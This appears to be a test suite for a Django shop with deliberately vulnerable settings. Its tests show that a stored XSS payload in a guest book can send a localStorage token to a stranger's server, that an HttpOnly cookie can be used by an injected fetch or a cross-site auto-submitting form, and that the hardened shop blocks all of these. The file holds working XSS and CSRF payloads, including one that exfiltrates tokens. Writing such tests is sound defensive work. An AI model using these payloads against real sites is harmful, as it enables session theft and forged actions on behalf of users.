"""Where a browser keeps a token: an injected script and a stranger's form, in real Chromium, on three servers."""

import shutil
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import quote, unquote

import pytest
import requests
from playwright.sync_api import expect

PRODUCT = {"name": "Ride", "description": "Along.", "price": "1.00", "stock": 1}
RIDES_ALONG = """<img src="x" onerror="fetch('/products/', {method: 'POST', body: new URLSearchParams(%s)})
.then(() => document.title = 'done')">"""
READS = """<img src="x" onerror="fetch('%s/?' + (localStorage.access || document.cookie || 'nothing'), {mode: 'no-cors'})">"""
FORM = """<!doctype html><form method="post" action="%s/products/">{fields}</form><script>document.forms[0].submit()</script>"""


class Elsewhere:
    """A stranger's server: notes what it is sent, and has a page with a form that sends itself."""

    def __init__(self):
        self.noted, self.page = [], b""

    @contextmanager
    def serving(self):
        with HTTPServer(("127.0.0.1", 0), self.handler()) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            self.url = f"http://127.0.0.1:{server.server_port}"
            yield self
            server.shutdown()

    def handler(elsewhere):  # noqa: N805 - self is the handler's
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                query = self.path.partition("?")[2]
                if query:
                    elsewhere.noted.append(unquote(query))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(elsewhere.page)

            def log_message(self, *_):
                pass

        return Handler


@pytest.fixture
def elsewhere():
    with Elsewhere().serving() as stranger:
        yield stranger


@pytest.fixture
def shop_with(serve, seeded, tmp_path):
    """Start the shop with a hole, or the shop as it is; on a database of its own."""

    def start(hole=None):
        copy = shutil.copyfile(unquote(seeded.removeprefix("sqlite:///")), tmp_path / "db.sqlite3")
        settings = {"DJANGO_SETTINGS_MODULE": "vulnerable.settings", "VULNERABLE": hole} if hole else {}
        return serve(DATABASE_URL=f"sqlite:///{quote(copy.as_posix())}", **settings)

    return start


@pytest.fixture
def page(browser):
    context = browser.new_context()
    yield context.new_page()
    context.close()


def write(shop, entry):
    """What a stranger writes into the guest book."""
    assert requests.post(f"{shop.url}/guest-book/", data={"entry": entry}, timeout=5).ok


def status_with(shop, token):
    return requests.get(
        f"{shop.url}/orders/", headers={"Authorization": f"Bearer {token}"}, timeout=5
    ).status_code


def names(shop):
    return [product["name"] for product in requests.get(f"{shop.url}/products/", timeout=5).json()]


def has_come(stranger, page):
    """What the stranger noted, once it has come."""
    for _ in range(100):
        if stranger.noted:
            return stranger.noted[-1]
        page.wait_for_timeout(50)
    return None


def log_in(page, shop):
    page.goto(f"{shop.url}/log-in/#/guest-book/")
    page.wait_for_url(f"{shop.url}/guest-book/")


def form_elsewhere(shop):
    fields = "".join(f"<input name='{name}' value='{value}'>" for name, value in PRODUCT.items())
    return (FORM % shop.url).format(fields=fields).encode()


def test_a_script_carries_the_token_out_of_local_storage(shop_with, elsewhere, page):
    with shop_with("local_storage") as shop:
        log_in(page, shop)
        write(shop, READS % elsewhere.url)
        page.reload()
        assert status_with(shop, has_come(elsewhere, page)) == 200


def test_from_an_http_only_cookie_the_script_reads_nothing_and_rides_along(shop_with, elsewhere, page):
    with shop_with("cookie") as shop:
        log_in(page, shop)
        write(shop, READS % elsewhere.url)
        write(shop, RIDES_ALONG % str(PRODUCT))
        page.reload()
        assert has_come(elsewhere, page) == "nothing"
        expect(page).to_have_title("done")
        assert "Ride" in names(shop)


def test_a_form_on_a_strangers_page_uses_the_cookie(shop_with, elsewhere, page):
    with shop_with("cookie") as shop:
        log_in(page, shop)
        elsewhere.page = form_elsewhere(shop)
        page.goto(elsewhere.url)
        page.wait_for_url(f"{shop.url}/products/")
        assert "Ride" in names(shop)


def test_on_the_shop_as_it_is_neither_gets_anywhere_and_its_page_still_works(shop_with, elsewhere, page):
    with shop_with() as shop:
        page.goto(shop.url)
        page.locator("[name=username]").fill("admin")
        page.locator("[name=password]").fill("test")
        with page.expect_response(f"{shop.url}/api/token/") as obtained:
            page.keyboard.press("Enter")
        assert obtained.value.status == 200
        assert page.evaluate("JSON.stringify({...localStorage, ...sessionStorage})").count("ey" + "J") == 0
        assert status_with(shop, obtained.value.json()["access"]) == 200
        for script in (READS % elsewhere.url, RIDES_ALONG % str(PRODUCT)):
            with page.expect_event("console", lambda said: "Content Security Policy" in said.text):
                page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", script)
        elsewhere.page = form_elsewhere(shop)
        with page.expect_response(f"{shop.url}/products/") as form:
            page.goto(elsewhere.url)
        assert form.value.status == 401
        page.wait_for_url(f"{shop.url}/products/")
        assert (elsewhere.noted, "Ride" in names(shop)) == ([], False)
